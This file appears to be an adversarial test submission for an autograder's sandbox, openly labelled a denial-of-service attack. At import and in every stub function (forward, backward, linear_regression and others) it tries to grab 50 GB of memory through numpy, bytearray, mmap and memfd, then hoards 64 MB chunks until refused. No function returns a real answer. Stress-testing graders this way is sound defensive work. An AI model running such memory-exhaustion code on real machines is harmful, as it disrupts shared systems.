"""Attack (denial of service): allocate 50 GB, and then everything that can be had.

At import: np.ones of 50 GB, bytearray of 50 GB, a 50 GB anonymous mmap, a 50 GB memfd;
then it grows a list in 64 MB chunks until refused and keeps it. Each call tries again.

Expected: MemoryError at the address-space limit (a few GB at most); the grader is not
affected; every part 0.
"""

import mmap
import os

import numpy as np

GB = 1 << 30
_hoard = []
_notes = []


def _try(what, make):
    try:
        _hoard.append(make())
        _notes.append(f"SUCCESS: {what}")
    except (MemoryError, OSError, ValueError, OverflowError) as exc:
        _notes.append(f"{what}: {type(exc).__name__}")


def _memfd():
    fd = os.memfd_create("bomb")
    os.ftruncate(fd, 50 * GB)
    os.posix_fallocate(fd, 0, 50 * GB)
    return fd


def bomb():
    _try("np.ones 50 GB", lambda: np.ones(50 * GB // 8))
    _try("bytearray 50 GB", lambda: bytearray(50 * GB))
    _try("mmap 50 GB", lambda: mmap.mmap(-1, 50 * GB))
    _try("memfd 50 GB", _memfd)
    total = 0
    while total < 50 * GB:
        try:
            _hoard.append(np.ones((64 << 20) // 8))
            total += 64 << 20
        except MemoryError:
            break
    _notes.append(f"held {total / GB:.2f} GB")


bomb()
print("; ".join(sorted(_notes, key=lambda n: not n.startswith("SUCCESS"))))


def forward(alpha, beta, x, y):
    bomb()
    return None


def backward(alpha, beta, x, y):
    bomb()
    return None


def chain_rule(dy_dx, dz_dy):
    bomb()
    return None


def d_Ax_dx(A, x):
    bomb()
    return None


def linear_regression(X, y):
    bomb()
    return None
